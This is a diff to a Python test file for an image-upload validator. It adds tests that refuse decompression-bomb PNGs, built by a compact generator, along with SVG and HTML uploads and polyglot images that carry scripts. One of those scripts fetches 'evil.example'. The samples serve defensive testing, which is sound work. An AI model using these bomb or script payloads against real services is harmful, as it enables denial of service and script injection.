@@ -7,10 +7,10 @@ import struct
 import zlib
 
 import pytest
-from PIL import ExifTags, Image
+from PIL import ExifTags, Image, ImageFile
 
 from tools.accept_photo import MAX_BYTES, MAX_SIDE, accept_photo, sample_jpeg
-from tools.errors import InvalidUpload
+from tools.errors import InvalidUpload, TooManyPixels
 
 GPS_IFD = ExifTags.IFD.GPSInfo  # 0x8825
 ORIENTATION = ExifTags.Base.Orientation  # 0x0112
@@ -182,5 +182,106 @@ def _png_header_only(width: int, height: int) -> bytes:
 def test_a_decompression_bomb_is_refused_not_decoded() -> None:
     bomb = _png_header_only(40_000, 40_000)  # 1.6 billion pixels claimed in a few bytes
     assert len(bomb) < 200
-    with pytest.raises(InvalidUpload, match="not a photo we can read"):
-        accept_photo(bomb)
+    with pytest.raises(TooManyPixels, match="too many pixels") as caught:
+        accept_photo(bomb)  # Pillow's own DecompressionBombError, as the same typed refusal
+    assert caught.value.too_large
+
+
+def blank_png(width: int, height: int, rows_per_block: int = 100) -> bytes:
+    """A valid all-black RGB PNG of any size in a few hundred kilobytes, made without ever
+    holding its pixels: one compressed block of rows, repeated after a full flush."""
+    assert height % rows_per_block == 0
+    block = b"\0" * ((1 + width * 3) * rows_per_block)
+    packer = zlib.compressobj(9)
+    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    checksum = 1
+    for _ in range(height // rows_per_block):
+        checksum = zlib.adler32(block, checksum)
+    stream = (
+        first
+        + again * (height // rows_per_block - 1)
+        + b"\x03\x00"  # an empty final block
+        + struct.pack(">I", checksum)
+    )
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
+    )
+
+
+def test_the_blank_png_helper_makes_a_real_image() -> None:
+    image = opened(blank_png(300, 200))
+    assert image.size == (300, 200) and image.getextrema() == ((0, 0), (0, 0), (0, 0))
+
+
+def test_a_9000_by_9000_png_is_refused_from_its_header_without_decoding(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # 81 megapixels in a quarter of a megabyte: under Pillow's own bomb limit (89 MP), so it
+    # used to be decoded in full (seconds of CPU, 600 MB).
+    png = blank_png(9000, 9000)
+    assert len(png) < 300_000
+    decoded: list[str] = []
+    real_load = ImageFile.ImageFile.load
+
+    def load(image: ImageFile.ImageFile) -> object:
+        decoded.append(image.format or "")
+        return real_load(image)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
+    with pytest.raises(TooManyPixels) as caught:
+        accept_photo(png)
+    assert caught.value.too_large and caught.value.code == "too_many_pixels"
+    assert "too many pixels (9000 x 9000 pixels)" in caught.value.message
+    assert "40 megapixels" in caught.value.message
+    assert decoded == []
+
+
+def test_the_pixel_limit_is_a_setting() -> None:
+    photo = encode("JPEG", (400, 300))
+    assert accept_photo(photo, max_pixels=120_000).width == 400
+    with pytest.raises(InvalidUpload, match=r"too many pixels \(400 x 300 pixels\)"):
+        accept_photo(photo, max_pixels=119_999)
+
+
+SVG = b"""<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>"""
+
+
+@pytest.mark.parametrize(
+    "upload",
+    [
+        SVG,
+        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
+        b"<!DOCTYPE html><html><body>order 1001</body></html>",
+    ],
+    ids=["svg-with-script", "bare-svg", "html-page"],
+)
+def test_svg_and_web_pages_are_refused_naming_what_they_are(upload: bytes) -> None:
+    with pytest.raises(InvalidUpload) as caught:
+        accept_photo(upload)
+    assert "SVG, HTML or script" in caught.value.message
+    assert "JPEG, PNG, WebP or HEIC" in caught.value.message
+
+
+def test_a_jpeg_with_a_script_hidden_in_it_is_refused() -> None:
+    # A real JPEG that is also a web page: the script rides in a comment segment.
+    image = Image.new("RGB", (64, 48), (10, 20, 30))
+    out = io.BytesIO()
+    image.save(out, format="JPEG", comment=b"<script>fetch('//evil.example')</script>")
+    polyglot = out.getvalue()
+    assert opened(polyglot).format == "JPEG"
+    with pytest.raises(InvalidUpload, match="SVG, HTML or script"):
+        accept_photo(polyglot)
+
+
+def test_a_png_carrying_a_web_page_after_its_end_is_refused() -> None:
+    polyglot = encode("PNG") + b"<html><body><script>alert(1)</script></body></html>"
+    with pytest.raises(InvalidUpload, match="SVG, HTML or script"):
+        accept_photo(polyglot)
